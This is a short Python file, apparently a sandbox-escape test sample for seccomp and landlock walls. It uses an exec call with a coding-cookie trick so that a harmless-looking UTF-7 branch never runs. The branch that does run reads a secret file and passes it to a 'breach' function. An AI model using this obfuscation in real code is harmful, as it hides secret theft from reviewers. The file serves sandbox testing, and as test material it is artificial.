"""Code hidden from readers by a cookie for UTF-7.

walls: seccomp landlock
"""

exec(b"# coding: utf-7\n+AHIAYQBpAHMAZQ- SystemExit\n" if False else b"# coding: latin-1\nbreach(open(SECRET).read())\n")
